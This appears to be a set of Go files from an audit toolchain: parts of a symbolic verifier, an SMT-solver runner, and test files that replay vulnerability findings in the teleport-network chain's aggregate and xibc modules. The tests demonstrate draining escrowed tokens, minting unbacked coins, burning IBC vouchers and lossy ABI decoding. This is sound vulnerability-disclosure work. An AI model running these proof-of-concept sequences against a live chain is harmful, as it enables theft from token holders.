			if _, wantI := pt.Underlying().(*types.Interface); wantI && v.K != kIface && v.Typ != nil {
				if _, isI := v.Typ.Underlying().(*types.Interface); !isI {
					inner := v
					v = Val{K: kIface, Typ: pt, Inner: &inner, Sort: sIface}
				}
			}
		}
		args = append(args, v)
	}
	args = c.packVariadic(sig, args, off)
	return c.runSpec(func(st *State) []Out {
		return e.dispatch(st, fn, args, nil, fn.Signature.Results(), 0, nil)
	}, fn.String())
}

// packVariadic: f(a, b, c) for f(xs ...T) passes the slice []T{a, b, c}, as the compiled call does
// (a contract never spreads an existing slice with "...": not supported).
func (c *cenv) packVariadic(sig *types.Signature, args []Val, off int) []Val {
	if !sig.Variadic() {
		return args
	}
	fixed := off + sig.Params().Len() - 1
	if len(args) < fixed {
		return args
	}
	st := sig.Params().At(sig.Params().Len() - 1).Type()
	sl, ok := st.(*types.Slice)
	if !ok {
		return args
	}
	pack := Val{K: kArr, Typ: st, Sort: c.e.sortOfT(st)}
	for _, a := range args[fixed:] {
		pack.Elems = append(pack.Elems, c.coerce(a, sl.Elem()))
	}
	return append(append([]Val(nil), args[:fixed]...), pack)
}

func (c *cenv) externCall(o *types.Func, argx []ast.Expr) Val {
	e := c.e
	sig := o.Type().(*types.Signature)
	var args []Val
	for i, a := range argx {
		v := c.eval(a)
		if i < sig.Params().Len() {
			v = c.coerce(v, sig.Params().At(i).Type())
		}
		args = append(args, v)
	}
	args = c.packVariadic(sig, args, 0)
	name := o.FullName()
	return c.runSpec(func(st *State) []Out {
		if f, ok := intrinsicsByName[name]; ok {
			return f(e, st, args, sig.Results(), nil)
		}
		if pureExternal(name) {
			return e.pureCall(st, name, args, sig.Results())
		}
		e.fail("contract calls external function %s which has no model", name)
		return nil
	}, name)
}

func (c *cenv) methodCall(recv Val, name string, argx []ast.Expr) Val {
	e := c.e
	// find method on the value's type
	var inner Val = recv
	if recv.K == kIface && recv.Inner != nil {
		inner = *recv.Inner
	}
	if inner.Typ == nil {
		return c.errf("method %s on untyped value", name)
	}
	if _, isIface := inner.Typ.Underlying().(*types.Interface); isIface && inner.K != kIface {
		// symbolic interface: use invoke path
		mset := types.NewMethodSet(inner.Typ)
		for i := 0; i < mset.Len(); i++ {
			if mset.At(i).Obj().Name() == name {
				m := mset.At(i).Obj().(*types.Func)
				sig := m.Type().(*types.Signature)
				var args []Val
				for j, a := range argx {
					v := c.eval(a)
					if j < sig.Params().Len() {
						v = c.coerce(v, sig.Params().At(j).Type())
					}
					args = append(args, v)
				}
				return c.runSpec(func(st *State) []Out {
					return e.invoke(st, inner, m, args, sig.Results(), "("+inner.Typ.String()+")."+name, 0, nil)
				}, name)
			}
		}
		return c.errf("no method %s on %s", name, inner.Typ)
	}
	for _, T := range []types.Type{inner.Typ, types.NewPointer(inner.Typ)} {
		mset := e.P.Prog.MethodSets.MethodSet(T)
		for i := 0; i < mset.Len(); i++ {
			if mset.At(i).Obj().Name() == name {
				fn := e.P.Prog.MethodValue(mset.At(i))
				if fn == nil {
					continue
				}
				rv := inner
				// receiver adaptation
				_, wantPtr := fn.Signature.Recv().Type().Underlying().(*types.Pointer)
				_, havePtr := inner.Typ.Underlying().(*types.Pointer)
				if wantPtr && !havePtr && inner.K != kPtr {
					cell := e.newCell(c.st(), inner)
					rv = Val{K: kPtr, Typ: types.NewPointer(inner.Typ), Ptr: &Pointer{Cell: cell, RO: true}}
				} else if !wantPtr && (havePtr || inner.K == kPtr) {
					rv = c.deref(inner)
				}
				return c.goCall(fn, &rv, argx)
			}
		}
	}
	return c.errf("no method %s on %s", name, inner.Typ)
}

// runSpec runs f on a scratch copy of the current state and merges the outcomes into one value.
func (c *cenv) runSpec(f func(st *State) []Out, name string) Val {
	e := c.e
	base := c.st()
	scratch := base.clone()
	save := e.specMode
	e.specMode++
	savedPaths := e.paths
	outs := f(scratch)
	e.paths = savedPaths
	e.specMode = save
	if e.err != nil {
		return termVal(types.Typ[types.Bool], sBool, "true")
	}
	var good []Out
	for _, o := range outs {
		if o.st.panics == "" && !o.st.dead {
			good = append(good, o)
		}
	}
	if len(good) == 0 {
		return c.errf("specification call %s has no normal outcome", name)
	}
	nDefs0, nPC0 := len(base.defs), len(base.pc)
	adopt := func(o Out, withPC bool) {
		for id, v := range o.st.cells {
			if _, ok := base.cells[id]; !ok {
				base.cells[id] = v
			}
			if c.post != nil && c.post != base {
				if _, ok := c.post.cells[id]; !ok {
					c.post.cells[id] = v
				}
			}
		}
		var facts []string
		if len(o.st.defs) > nDefs0 {
			facts = append(facts, o.st.defs[nDefs0:]...)
		}
		if withPC && len(o.st.pc) > nPC0 {
			// single feasible outcome: its path facts are facts about the fresh result symbols
			facts = append(facts, o.st.pc[nPC0:]...)
		}
		for _, d := range facts {
			// facts about terms that mention a quantifier-bound variable are only meaningful under the binder
			skip := false
			for _, bv := range c.bound {
				if bv.T != "" && strings.Contains(d, bv.T) {
					skip = true
				}
			}
			if skip || e.mentionsBound(d) {
				continue
			}
			base.define(d)
			if c.post != nil && c.post != base {
				c.post.define(d)
			}
		}
	}
	if len(good) == 1 {
		o := good[0]
		adopt(o, true)
		return untuple1(o.res)
	}
	// merge by ite over path conditions
	n0 := len(base.pc)
	var res Val
	for i := len(good) - 1; i >= 0; i-- {
		o := good[i]
		adopt(o, false)
		cond := tAnd(o.st.pc[n0:]...)
		if i == len(good)-1 {
			res = c.termify(o.st, o.res)
			continue
		}
		res = c.iteVal(cond, c.termify(o.st, o.res), res)
	}
	return untuple1(res)
}

// untuple1: an intrinsic called with a one-element result tuple types its value by the element.
func untuple1(v Val) Val {
	if tp, ok := v.Typ.(*types.Tuple); ok && tp.Len() == 1 && v.K != kTuple {
		v.Typ = tp.At(0).Type()
	}
	return v
}

func (c *cenv) termify(st *State, v Val) Val {
	e := c.e
	if v.K == kTuple {
		r := Val{K: kTuple}
		for _, el := range v.Elems {
			r.Elems = append(r.Elems, c.termify(st, el))
		}
		return r
	}
	if v.K == kTerm {
		return v
	}
	if v.K == kUnit {
		return v
	}
	return Val{K: kTerm, Typ: v.Typ, Sort: e.sortOfT(v.Typ), T: e.term(st, v)}
}

func (c *cenv) iteVal(cond string, a, b Val) Val {
	if a.K == kTuple {
		r := Val{K: kTuple}
		for i := range a.Elems {
			r.Elems = append(r.Elems, c.iteVal(cond, a.Elems[i], b.Elems[i]))
		}
		return r
	}
	if a.K == kUnit {
		return a
	}
	r := a
	r.Segs = nil
	r.T = tIte(cond, a.T, b.T)
	return r
}
