package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"
)

type solverSpec struct {
	name string
	args func(file string, timeoutS int) []string
}

var solvers = []solverSpec{
	{"z3-new", func(f string, t int) []string { return []string{"z3-new", fmt.Sprintf("-T:%d", t), f} }},
	{"z3", func(f string, t int) []string { return []string{"z3", fmt.Sprintf("-T:%d", t), f} }},
	{"cvc5", func(f string, t int) []string {
		return []string{"cvc5", fmt.Sprintf("--tlimit=%d", t*1000), "--produce-models", f}
	}},
}

func (o *Obligation) smtText() string {
	var body strings.Builder
	for _, d := range o.defs {
		fmt.Fprintf(&body, "(assert %s)\n", d)
	}
	for _, p := range o.PC {
		fmt.Fprintf(&body, "(assert %s)\n", p)
	}
	if !o.Cover {
		fmt.Fprintf(&body, "(assert (not %s))\n", o.Goal)
	}
	text := body.String()
	var ax strings.Builder
	if o.env != nil {
		for _, a := range o.env.keyAxioms(text) {
			fmt.Fprintf(&ax, "(assert %s)\n", a)
		}
	}
	for _, x := range o.extra {
		fmt.Fprintf(&ax, "(assert %s)\n", x)
	}
	all := ax.String() + text
	return fmt.Sprintf("; obligation %s\n; %s\n; at %s\n", o.Name(), strings.ReplaceAll(o.Detail, "\n", " "), o.Pos) + o.decls.preamble(all) + all + "(check-sat)\n(get-model)\n"
}

type solveResult struct {
	status  string
	solver  string
	seconds float64
	output  string
}

func runSolvers(file string, timeoutS int, which []solverSpec) solveResult {
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(timeoutS+2)*time.Second)
	defer cancel()
	type r struct {
		res solveResult
	}
	ch := make(chan solveResult, len(which))
	for _, s := range which {
		s := s
		go func() {
			t0 := time.Now()
			a := s.args(file, timeoutS)
			cmd := exec.CommandContext(ctx, a[0], a[1:]...)
			var out bytes.Buffer
			cmd.Stdout = &out
			cmd.Stderr = &out
			_ = cmd.Run()
			first := strings.TrimSpace(strings.SplitN(out.String(), "\n", 2)[0])
			st := "unknown"
			switch first {
			case "unsat", "sat":
				st = first
			case "timeout":
				st = "timeout"
			}
			if strings.HasPrefix(first, "(error") {
				st = "error"
			}
			if st == "unknown" && ctx.Err() != nil {
				st = "timeout"
			}
			ch <- solveResult{status: st, solver: s.name, seconds: time.Since(t0).Seconds(), output: out.String()}
		}()
	}
	var last solveResult
	for range which {
		res := <-ch
		if res.status == "unsat" || res.status == "sat" {
			cancel()
			return res
		}
		if last.solver == "" || res.status == "unknown" || (res.status == "error" && last.status != "unknown") {
			last = res
		}
	}
	return last
}

// discharge runs all obligations through the solvers, in parallel.
func discharge(obls []*Obligation, dir string, timeoutS int, workers int, confirm bool) {
	os.MkdirAll(dir, 0o755)
	var wg sync.WaitGroup
	sem := make(chan struct{}, workers)
	// query texts are generated sequentially (the generator mutates the declaration tables)
	for i, o := range obls {
		if o.precomputed {
			continue
		}
		if !o.Cover && o.Goal == "true" {
			o.Status, o.Solver = "unsat", "trivial"
			continue
		}
		file := filepath.Join(dir, fmt.Sprintf("o%04d.smt2", i))
		os.WriteFile(file, []byte(o.smtText()), 0o644)
		o.File = file
	}
	for _, o := range obls {
		o := o
		if o.precomputed || o.Solver == "trivial" || o.File == "" {
			continue
		}
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			file := o.File
			tmo := timeoutS
			if o.Cover && tmo > 4 {
				tmo = 4 // reachability covers are a vacuity guard, not a proof obligation
			}
			res := runSolvers(file, tmo, solvers)
			if !o.Cover && (res.status == "unknown" || res.status == "timeout") {
				// not decided inside the quick budget (e.g. a loaded machine): one retry with a long budget
				// before anything is reported, so that slowness never turns into an alarm
				r2 := runSolvers(file, 8*timeoutS, solvers)
				r2.seconds += res.seconds
				res = r2
			}
			o.Status, o.Solver, o.Seconds = res.status, res.solver, res.seconds
			if res.status == "sat" {
				o.Model = res.output
			} else if res.status != "unsat" {
				o.Model = res.output
			}
			if confirm && res.status == "unsat" && !o.Cover {
				// second solver must agree
				var others []solverSpec
				for _, s := range solvers {
					if s.name != res.solver {
						others = append(others, s)
					}
				}
				r2 := runSolvers(file, timeoutS, others)
				o.Seconds += r2.seconds
				if r2.status == "unsat" {
					o.Solver += "+" + r2.solver
				} else if r2.status == "sat" {
					o.Status = "sat"
					o.Model = "DISAGREEMENT: " + res.solver + " unsat, " + r2.solver + " sat\n" + r2.output
				} else {
					o.Confirm = "unconfirmed (" + r2.solver + ": " + r2.status + ")"
				}
			}
		}()
	}
	wg.Wait()
}

// ok reports whether the obligation is discharged (or the cover is reachable).
func (o *Obligation) ok() bool {
	if o.Kind == "aux" {
		return true // auxiliary query: its answer is used, never judged
	}
	if o.Cover {
		return o.Status == "sat"
	}
	if o.Covered != "" && o.Status == "sat" {
		return true // see Covered: not a violation of the property (submission dry-run)
	}
	return o.Status == "unsat"
}
