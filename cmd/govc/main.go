package main

import (
	"fmt"
	"os"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: govc <check|dump|selftest|replay> ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "dump":
		cmdDump(os.Args[2:])
	case "check":
		cmdCheck(os.Args[2:])
	case "selftest":
		cmdSelftest(os.Args[2:])
	case "inventory":
		cmdInventory(os.Args[2:])
	case "lint-locals":
		cmdLintLocals(os.Args[2:])
	case "mutate":
		cmdMutate(os.Args[2:])
	default:
		fmt.Fprintln(os.Stderr, "unknown command", os.Args[1])
		os.Exit(2)
	}
}
