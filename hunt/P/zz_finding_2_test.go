// package directory: x/aggregate/keeper (package keeper_test)
package keeper_test

import (
	"fmt"
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/ethereum/go-ethereum/common"
	"github.com/tharsis/ethermint/tests"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

// History: RegisterERC20(E) (externally owned contract) ; holder H converts 60 E into 60 vouchers
// aggregate/E (module escrows 60 E) ; governance passes AddCoin(bcoin, E) - AddCoin never looks at
// the owner of the pair - ; user U converts 60 bcoin: the externally-owned branch of ConvertCoin pays
// him the 60 E that back H's vouchers and BURNS the 60 bcoin ; H's vouchers (convertible before the
// registry change) cannot be converted any more ; and anybody holding E converts it "back" into
// freshly MINTED bcoin that nobody ever escrowed.
func TestZZFinding2AddCoinOnExternalPair(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	suite.mintFeeCollector = true
	suite.SetupTest()

	k := suite.app.AggregateKeeper
	bank := suite.app.BankKeeper
	handler := aggregate.NewAggregateProposalHandler(k)

	ext := suite.DeployContract("coin", "CTKN", 18)
	suite.Commit()
	reg := types.NewRegisterERC20Proposal("t", "d", ext.String())
	suite.Require().NoError(reg.ValidateBasic())
	suite.Require().NoError(handler(suite.ctx, reg))
	voucher := types.CreateDenom(ext.String())

	holder := sdk.AccAddress(suite.address.Bytes())
	suite.MintERC20Token(ext, suite.address, suite.address, big.NewInt(100))
	suite.Commit()
	_, err := k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewInt(60), holder, ext, suite.address, voucher))
	suite.Require().NoError(err)
	suite.Commit()

	// an ordinary bank coin with some supply, owned by user U
	const bcoin = "bcoin"
	userEVM := tests.GenerateAddress()
	user := sdk.AccAddress(userEVM.Bytes())
	suite.Require().NoError(bank.MintCoins(suite.ctx, types.ModuleName, sdk.Coins{sdk.NewInt64Coin(bcoin, 1000)}))
	suite.Require().NoError(bank.SendCoinsFromModuleToAccount(suite.ctx, types.ModuleName, user, sdk.Coins{sdk.NewInt64Coin(bcoin, 1000)}))
	supplyB0 := bank.GetSupply(suite.ctx, bcoin).Amount

	md := banktypes.Metadata{
		Description: "b coin",
		Base:        bcoin,
		DenomUnits:  []*banktypes.DenomUnit{{Denom: bcoin, Exponent: 0}, {Denom: "bigbcoin", Exponent: 18}},
		Name:        bcoin,
		Symbol:      "BCN",
		Display:     "bigbcoin",
	}
	add := types.NewAddCoinProposal("t", "d", md, ext.String())
	suite.Require().NoError(add.ValidateBasic())
	if err := handler(suite.ctx, add); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: AddCoin on an externally owned pair is refused: %v\n", err)
		return
	}
	suite.Commit()

	// U converts 60 bcoin -> gets the escrowed E of the voucher holders, bcoin is burned
	_, err = k.ConvertCoin(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(bcoin, 60), userEVM, user))
	suite.Require().NoError(err)
	suite.Commit()
	supplyB1 := bank.GetSupply(suite.ctx, bcoin).Amount
	escrowE := suite.BalanceOf(ext, types.ModuleAddress).(*big.Int)
	escrowB := bank.GetBalance(suite.ctx, sdk.AccAddress(types.ModuleAddress.Bytes()), bcoin).Amount
	supplyV := bank.GetSupply(suite.ctx, voucher).Amount

	// H tries to convert the vouchers he could convert before the registry change
	cctx, _ := suite.ctx.CacheContext()
	_, errBack := k.ConvertCoin(sdk.WrapSDKContext(cctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(voucher, 10), suite.address, holder))

	// H converts 40 E "back" into bcoin he never had: minted from nothing
	_, errMint := k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewInt(40), holder, ext, suite.address, bcoin))
	suite.Commit()
	supplyB2 := bank.GetSupply(suite.ctx, bcoin).Amount
	holderB := bank.GetBalance(suite.ctx, holder, bcoin).Amount

	pair, _ := k.GetTokenPair(suite.ctx, k.GetTokenPairID(suite.ctx, common.Address(ext).String()))
	if errBack != nil && escrowE.Sign() == 0 && supplyB1.LT(supplyB0) && errMint == nil && supplyB2.GT(supplyB1) {
		fmt.Printf("REPLAY-CONFIRMED: AddCoin accepted for the %s pair %v; ConvertCoin of 60 bcoin paid out the 60 escrowed tokens backing the vouchers and burned the bcoin (bcoin supply %s -> %s, module escrows %s bcoin, %s E) leaving voucher supply %s unbacked: ConvertCoin of 10 vouchers (possible before the change) fails: %v; ConvertERC20 of 40 E with denom bcoin minted bcoin from nothing (supply %s -> %s, holder now has %s)\n",
			pair.ContractOwner, pair.Denoms, supplyB0, supplyB1, escrowB, escrowE, supplyV, errBack, supplyB1, supplyB2, holderB)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: errBack=%v escrowE=%s supplyB %s->%s->%s errMint=%v\n", errBack, escrowE, supplyB0, supplyB1, supplyB2, errMint)
}
