// package directory: x/aggregate/keeper (package keeper_test)
package keeper_test

import (
	"fmt"
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	transfertypes "github.com/cosmos/ibc-go/v3/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v3/modules/core/02-client/types"
	channeltypes "github.com/cosmos/ibc-go/v3/modules/core/04-channel/types"
	porttypes "github.com/cosmos/ibc-go/v3/modules/core/05-port/types"
	"github.com/cosmos/ibc-go/v3/modules/core/exported"

	"github.com/ethereum/go-ethereum/common"
	"github.com/tharsis/ethermint/tests"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

// zzTransferStub stands for the ICS-20 application below the middleware: it credits the voucher to
// the receiver (what transfer.OnRecvPacket does for a token of a foreign chain) and acknowledges.
type zzTransferStub struct {
	porttypes.IBCModule
	mint func(ctx sdk.Context, receiver sdk.AccAddress, coin sdk.Coin)
}

func (s zzTransferStub) OnRecvPacket(ctx sdk.Context, packet channeltypes.Packet, _ sdk.AccAddress) exported.Acknowledgement {
	var data transfertypes.FungibleTokenPacketData
	transfertypes.ModuleCdc.MustUnmarshalJSON(packet.GetData(), &data)
	receiver, _ := sdk.AccAddressFromBech32(data.Receiver)
	amt, _ := sdk.NewIntFromString(data.Amount)
	denom, _ := types.IBCDenom(packet.GetDestPort(), packet.GetDestChannel(), data.Denom)
	s.mint(ctx, receiver, sdk.NewCoin(denom, amt))
	return channeltypes.NewResultAcknowledgement([]byte{1})
}

// Same root cause as finding 2 (AddCoin does not look at the owner of the pair), seen from C16:
// once an IBC voucher denomination is added to an externally owned pair, the automatic conversion
// of a received transfer does not escrow the received vouchers - it BURNS them - and pays the
// receiver with the tokens escrowed for the holders of the pair's own voucher.
func TestZZFinding3IBCHookBurnsVouchersOfExternalPair(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	suite.mintFeeCollector = true
	suite.SetupTest()

	k := suite.app.AggregateKeeper
	bank := suite.app.BankKeeper
	handler := aggregate.NewAggregateProposalHandler(k)

	ext := suite.DeployContract("coin", "CTKN", 18)
	suite.Commit()
	suite.Require().NoError(handler(suite.ctx, types.NewRegisterERC20Proposal("t", "d", ext.String())))
	voucher := types.CreateDenom(ext.String())

	holder := sdk.AccAddress(suite.address.Bytes())
	suite.MintERC20Token(ext, suite.address, suite.address, big.NewInt(100))
	suite.Commit()
	_, err := k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewInt(60), holder, ext, suite.address, voucher))
	suite.Require().NoError(err)
	suite.Commit()

	ibcDenom, _ := types.IBCDenom("transfer", "channel-0", "uatom")
	mint := func(ctx sdk.Context, receiver sdk.AccAddress, coin sdk.Coin) {
		suite.Require().NoError(bank.MintCoins(ctx, transfertypes.ModuleName, sdk.Coins{coin}))
		suite.Require().NoError(bank.SendCoinsFromModuleToAccount(ctx, transfertypes.ModuleName, receiver, sdk.Coins{coin}))
	}
	// the voucher exists already (somebody received uatom before)
	mint(suite.ctx, sdk.AccAddress(tests.GenerateAddress().Bytes()), sdk.NewInt64Coin(ibcDenom, 5))

	md := banktypes.Metadata{
		Description: "atom over channel-0",
		Base:        ibcDenom,
		DenomUnits:  []*banktypes.DenomUnit{{Denom: ibcDenom, Exponent: 0}},
		Name:        "uatom channel-0",
		Symbol:      "ibcATOM",
		Display:     ibcDenom,
	}
	add := types.NewAddCoinProposal("t", "d", md, ext.String())
	suite.Require().NoError(add.ValidateBasic())
	if err := handler(suite.ctx, add); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: AddCoin on an externally owned pair is refused: %v\n", err)
		return
	}
	suite.Commit()

	recvEVM := tests.GenerateAddress()
	recv := sdk.AccAddress(recvEVM.Bytes())
	data := transfertypes.NewFungibleTokenPacketData("uatom", "60", "cosmos1sender", recv.String())
	packet := channeltypes.NewPacket(data.GetBytes(), 1, "transfer", "channel-7", "transfer", "channel-0", clienttypes.NewHeight(0, 1000), 0)

	supply0 := bank.GetSupply(suite.ctx, ibcDenom).Amount
	mw := aggregate.NewIBCMiddleware(*k, zzTransferStub{mint: mint})
	ack := mw.OnRecvPacket(suite.ctx, packet, nil)
	suite.Commit()

	supply1 := bank.GetSupply(suite.ctx, ibcDenom).Amount
	moduleEscrow := bank.GetBalance(suite.ctx, sdk.AccAddress(types.ModuleAddress.Bytes()), ibcDenom).Amount
	recvVouchers := bank.GetBalance(suite.ctx, recv, ibcDenom).Amount
	recvTokens := suite.BalanceOf(ext, recvEVM).(*big.Int)
	escrowE := suite.BalanceOf(ext, types.ModuleAddress).(*big.Int)
	supplyV := bank.GetSupply(suite.ctx, voucher).Amount

	if ack.Success() && recvTokens.Cmp(big.NewInt(60)) == 0 && recvVouchers.IsZero() && moduleEscrow.IsZero() && supply1.Equal(supply0) {
		fmt.Printf("REPLAY-CONFIRMED: transfer of 60 uatom acknowledged and auto-converted for %s: receiver got 60 tokens, but the 60 received vouchers %s were not escrowed (module account holds %s) - they were burned (supply before receive %s, after receive+conversion %s) - and the tokens came out of the escrow backing %s (voucher supply %s, module now escrows %s tokens)\n",
			common.Address(recvEVM).Hex(), ibcDenom, moduleEscrow, supply0, supply1, voucher, supplyV, escrowE)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: ack=%v recvTokens=%s recvVouchers=%s moduleEscrow=%s supply %s->%s\n", ack.Success(), recvTokens, recvVouchers, moduleEscrow, supply0, supply1)
}
