// package directory: x/aggregate/keeper (package keeper_test)
package keeper_test

import (
	"fmt"
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/x/aggregate"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

// History: RegisterERC20(E) ; a holder converts 60 E into 60 vouchers aggregate/E (60 E escrowed
// by the module) ; governance passes UpdateTokenPairERC20(E -> F) (F: a fresh contract with the
// same name / symbol / decimals, proposal passes ValidateBasic and the handler) ;
// afterwards the pair (F, [aggregate/E]) lists only that voucher, its supply is 60 and the module
// escrows 0 F: the voucher is unbacked, can be converted neither into F nor back into E, and the
// 60 escrowed E can never leave the module account.
func TestZZFinding1UpdateTokenPairERC20OrphansVouchers(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	suite.mintFeeCollector = true
	suite.SetupTest()

	// name == SanitizeERC20Name(name): the metadata written by RegisterERC20 itself satisfies
	// the checks of UpdateTokenPairERC20 (nothing is overwritten by hand in this test)
	const name, symbol = "coin", "CTKN"
	oldC := suite.DeployContract(name, symbol, 18)
	suite.Commit()

	handler := aggregate.NewAggregateProposalHandler(suite.app.AggregateKeeper)

	reg := types.NewRegisterERC20Proposal("t", "d", oldC.String())
	suite.Require().NoError(reg.ValidateBasic())
	suite.Require().NoError(handler(suite.ctx, reg))
	voucher := types.CreateDenom(oldC.String())

	holder := sdk.AccAddress(suite.address.Bytes())
	suite.MintERC20Token(oldC, suite.address, suite.address, big.NewInt(100))
	suite.Commit()

	_, err := suite.app.AggregateKeeper.ConvertERC20(
		sdk.WrapSDKContext(suite.ctx),
		types.NewMsgConvertERC20(sdk.NewInt(60), holder, oldC, suite.address, voucher),
	)
	suite.Require().NoError(err)
	suite.Commit()
	suite.Require().Equal(int64(60), suite.app.BankKeeper.GetSupply(suite.ctx, voucher).Amount.Int64())
	suite.Require().Equal(int64(60), suite.BalanceOf(oldC, types.ModuleAddress).(*big.Int).Int64())

	// sanity: before the registry change the voucher converts back
	{
		cctx, _ := suite.ctx.CacheContext()
		_, err := suite.app.AggregateKeeper.ConvertCoin(
			sdk.WrapSDKContext(cctx),
			types.NewMsgConvertCoin(sdk.NewInt64Coin(voucher, 10), suite.address, holder),
		)
		suite.Require().NoError(err)
	}

	newC := suite.DeployContract(name, symbol, 18)
	suite.Commit()

	upd := types.NewUpdateTokenPairERC20Proposal("t", "d", oldC.String(), newC.String())
	suite.Require().NoError(upd.ValidateBasic())
	if err := handler(suite.ctx, upd); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: UpdateTokenPairERC20 refused with outstanding vouchers: %v\n", err)
		return
	}
	suite.Commit()

	k := suite.app.AggregateKeeper
	pair, found := k.GetTokenPair(suite.ctx, k.GetTokenPairID(suite.ctx, voucher))
	suite.Require().True(found)

	supply := suite.app.BankKeeper.GetSupply(suite.ctx, voucher).Amount
	escrowNew := suite.BalanceOf(newC, types.ModuleAddress).(*big.Int)
	escrowOld := suite.BalanceOf(oldC, types.ModuleAddress).(*big.Int)

	// voucher -> token after the change
	cctx, _ := suite.ctx.CacheContext()
	_, errBack := k.ConvertCoin(
		sdk.WrapSDKContext(cctx),
		types.NewMsgConvertCoin(sdk.NewInt64Coin(voucher, 10), suite.address, holder),
	)
	// old token -> voucher after the change
	cctx2, _ := suite.ctx.CacheContext()
	_, errOld := k.ConvertERC20(
		sdk.WrapSDKContext(cctx2),
		types.NewMsgConvertERC20(sdk.NewInt(10), holder, oldC, suite.address, voucher),
	)

	if supply.BigInt().Cmp(escrowNew) > 0 && errBack != nil {
		fmt.Printf("REPLAY-CONFIRMED: after UpdateTokenPairERC20 the pair {%s, %v, owner=%s} has voucher supply %s but the module escrows %s of the pair's contract (and %s of the replaced one, unreachable); ConvertCoin of 10 vouchers (worked before the change) now fails: %v; ConvertERC20 of the old token fails: %v\n",
			pair.ERC20Address, pair.Denoms, pair.ContractOwner, supply, escrowNew, escrowOld, errBack, errOld)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: supply %s escrow(new) %s errBack %v\n", supply, escrowNew, errBack)
}
