// Package directory: x/xibc   (package xibc_test, uses the XIBCTestSuite helpers of integration_test.go)
//
// Finding 2: Packet.ABIDecode / Acknowledgement.ABIDecode (and TransferData / CallData / Result) decode through
// a JSON round trip (abi.Unpack -> json.Marshal -> json.Unmarshal). encoding/json replaces every byte sequence
// that is not valid UTF-8 in a string field by U+FFFD, so the decoding is lossy: decode(encode(v)) != v, and
// two different encoded values decode to the same value.
//
// End-to-end consequence shown here: chain B commits to an (error) acknowledgement whose `message` holds the
// raw revert bytes of a callee ("\xff\xfe", something a Solidity destination can produce). Chain A verifies the
// membership proof for sha256(ackBytes), but the acknowledgement it then hands to the packet contract
// (OnAcknowledgePacket -> stored in acks[], forwarded to the sender's callback) is a different one.
package xibc_test

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/ethereum/go-ethereum/common"

	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func TestZZFinding2LossyABIDecode(t *testing.T) {
	suite := new(XIBCTestSuite)
	suite.SetT(t)
	suite.SetupTest()

	// ---- unit level: two different packets, one decoded value, one receive-path commitment
	p1 := packettypes.Packet{SrcChain: "chain-a", DstChain: "chain-b", Sequence: 1, Sender: "0xabc\xff", TransferData: []byte{1}}
	p2 := p1
	p2.Sender = "0xabc\xfe"
	bz1, err := p1.ABIPack()
	suite.Require().NoError(err)
	bz2, err := p2.ABIPack()
	suite.Require().NoError(err)
	var d1, d2 packettypes.Packet
	suite.Require().NoError(d1.ABIDecode(bz1))
	suite.Require().NoError(d2.ABIDecode(bz2))
	c1, _ := packettypes.CommitPacket(&d1) // what keeper.RecvPacket computes for bz1
	c2, _ := packettypes.CommitPacket(&d2) // what keeper.RecvPacket computes for bz2
	src1, _ := packettypes.CommitPacket(&p1)
	packetLossy := !bytes.Equal(bz1, bz2) && d1.Sender == d2.Sender && d1.Sender != p1.Sender && bytes.Equal(c1, c2) && !bytes.Equal(c1, src1)

	// ---- end to end: acknowledgement proven on A differs from the one given to the application
	pathAToB := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(pathAToB)

	base := common.HexToAddress("0x0000000000000000000000000000000000000000")
	crossChainData := packettypes.CrossChainData{
		DstChain: suite.chainB.ChainID, TokenAddress: base, Receiver: strings.ToLower(suite.chainB.SenderAddress.String()),
		Amount: big.NewInt(100), ContractAddress: "", CallData: []byte(""), CallbackAddress: common.BigToAddress(big.NewInt(0)), FeeOption: 0,
	}
	suite.CrossChainCall(suite.chainA, crossChainData, packettypes.Fee{TokenAddress: base, Amount: big.NewInt(100)})

	amt, _ := hex.DecodeString("0000000000000000000000000000000000000000000000000000000000000064")
	transferData := packettypes.TransferData{Receiver: crossChainData.Receiver, Amount: amt, Token: strings.ToLower(base.String()), OriToken: ""}
	transferDataAbi, err := transferData.ABIPack()
	suite.Require().NoError(err)
	packet := packettypes.Packet{
